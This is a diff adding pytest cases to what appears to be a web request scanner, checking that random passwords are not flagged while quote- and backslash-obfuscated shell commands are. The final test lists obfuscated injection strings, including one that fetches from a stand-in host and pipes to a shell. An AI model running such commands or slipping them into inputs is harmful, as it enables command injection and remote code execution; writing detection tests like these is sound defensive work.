@@ -580,3 +580,40 @@ def test_an_orm_lookup_on_a_secret_in_a_parameter_name_is_blocked(rf):
     for request in (rf.get("/admin/auth/user/", QUERY_STRING="is_staff__exact=1&is_superuser__exact=0&o=-2"),
                     rf.get("/search", QUERY_STRING="q=password__startswith"), rf.get("/", QUERY_STRING="name__icontains=bob")):
         assert "django_orm_secret_lookup" not in names(scan_request(request))
+
+
+# ── random characters: what a password manager generates ─────────────────
+
+#: Passwords of letters, digits and symbols that a shell reading them would not run: a separator, then a letter
+#: broken by a backslash or quotes that spells no command (each blocked before the word had to be a command's name).
+RANDOM_PASSWORDS = ["A!vKSC?`\\A", "JI9]>YXTx&\\f", "gzc}46rJ&\\gX", "R0D~;f\\yaJ", "&Ru@5n;''Yi", "tx`AIq\\a",
+                    "m4;AYLU\\fJ", "zB0d|gxY4`cT\\Ooo"]
+
+
+@pytest.mark.parametrize("password", RANDOM_PASSWORDS)
+def test_a_random_password_is_no_obfuscated_command(password):
+    result = scan_parts(body=f"login=ana&pwd={quote(password, safe='')}&remember=on".encode(), content_type=FORM)
+    assert "shell_obfuscated_command" not in names(result) and result.score < BLOCK, result.hits
+
+
+def test_random_passwords_with_symbols_are_seldom_refused():
+    """3,000 passwords of 8–20 letters, digits and punctuation, drawn with a fixed seed: the scan refused 8 of them
+    (one in 375) while any backslashed letter after a separator was an obfuscated command; now at most one."""
+    import random
+    import string
+
+    draw = random.Random(20261207)
+    alphabet = string.ascii_letters + string.digits + string.punctuation
+    refused = []
+    for _ in range(3000):
+        password = "".join(draw.choice(alphabet) for _ in range(draw.randint(8, 20)))
+        body = f"login=ana&pwd={quote(password, safe='')}&remember=on".encode()
+        if scan_parts(body=body, content_type=FORM).score >= BLOCK:
+            refused.append(password)
+    assert len(refused) <= 1, refused
+
+
+@pytest.mark.parametrize("command", ["`wh\\oami`", "$(i\\d)", ";u$@name -a", "&& c\\url http://x.example/a|s\\h",
+                                     ";p\"i\"ng -c 1 x.example"])
+def test_a_command_broken_by_quotes_or_backslashes_blocks_wherever_it_ends(command):
+    assert "shell_obfuscated_command" in names(scan_at("query", command))
